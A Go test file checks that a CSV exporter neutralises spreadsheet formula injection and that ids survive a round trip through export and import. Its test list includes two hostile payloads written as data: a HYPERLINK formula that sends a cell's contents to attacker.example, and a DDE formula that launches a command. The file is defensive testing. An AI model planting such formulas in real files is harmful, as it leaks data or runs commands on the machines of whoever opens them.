package linkfile_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/linkgraph/linkgraph/internal/linkfile"
	"github.com/linkgraph/linkgraph/linkstore"
)

// formulas are what spreadsheets run, and what looks like it.
var formulas = []string{
	"=1+1",
	"+1+1",
	"-1+1",
	"@SUM(A1)",
	"\t=1+1",
	"\r=1+1",
	" =1+1",
	"\n=1+1",
	"'=1+1",
	"''=1+1",
	"'",
	"'x",
	"'-5",
	"-5x",
	"+5",
	"＝1+1",
	"\u00a0@A1",
	`=HYPERLINK("https://attacker.example/?"&A1,"x")`,
	`=cmd|'/c calc'!A1`,
	"plain",
	"a=b",
	"x'",
}

// TestFormulas exports ids that a spreadsheet would run, and brings them in again from what was written.
func TestFormulas(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, id := range formulas {
		_, err := w.db.Pool.Exec(t.Context(), `INSERT INTO product (id) VALUES ($1)`, id)
		w.must(err)
		_, err = w.links.Create(
			t.Context(),
			[]linkstore.Item{{Link: "product_channel", Left: id, Right: "c1"}},
			linkstore.CreateOptions{},
		)
		w.must(err)
	}
	var out bytes.Buffer
	_, err := w.exporter(linkfile.CSV, &out).File(t.Context(), "-")
	w.must(err)
	first := out.String()
	rows, err := csv.NewReader(strings.NewReader(first)).ReadAll()
	w.must(err)
	for _, row := range rows[1:] {
		for _, cell := range row {
			if begins := strings.TrimLeft(cell, " \n\u00a0"); begins != "" &&
				strings.ContainsAny(begins[:1], "=+-@\t\r") || strings.HasPrefix(begins, "＝") {
				t.Errorf("a spreadsheet runs %q", cell)
			}
		}
	}
	_, err = w.db.Pool.Exec(t.Context(), `TRUNCATE product_channel`)
	w.must(err)
	report, err := w.importer().File(t.Context(), w.file("again.csv", first))
	w.must(err)
	if report.Created != len(formulas) {
		t.Errorf("%s", report)
	}
	rest, err := w.db.Pool.Query(t.Context(), `SELECT product_id FROM product_channel`)
	w.must(err)
	var ids []string
	for rest.Next() {
		var id string
		w.must(rest.Scan(&id))
		ids = append(ids, id)
	}
	want := slices.Clone(formulas)
	slices.Sort(ids)
	slices.Sort(want)
	if !slices.Equal(ids, want) {
		t.Errorf("ids are %q\nwant %q", ids, want)
	}
}

// TestFormulasThatAreRejected looks at the file of rejected rows, which is made to be opened and mended.
func TestFormulasThatAreRejected(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	i := w.importer()
	i.Rejects = filepath.Join(w.dir, "rejects.csv")
	_, err := i.File(
		t.Context(),
		w.file("bad.csv", "link,left,right\nproduct_channel,=1+1,c1\nproduct_channel,'=2+2,c1\n=3+3,p1,c1\n"),
	)
	w.must(err)
	text, err := os.ReadFile(i.Rejects)
	w.must(err)
	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	w.must(err)
	if len(rows) != 4 {
		t.Fatalf("%s", text)
	}
	for n, want := range []string{"'=1+1", "'=2+2", "'=3+3"} {
		row := rows[n+1]
		if !slices.Contains(row, want) || strings.HasPrefix(row[1], "=") {
			t.Errorf("row %d: %q, want %s", n+1, row, want)
		}
	}
}
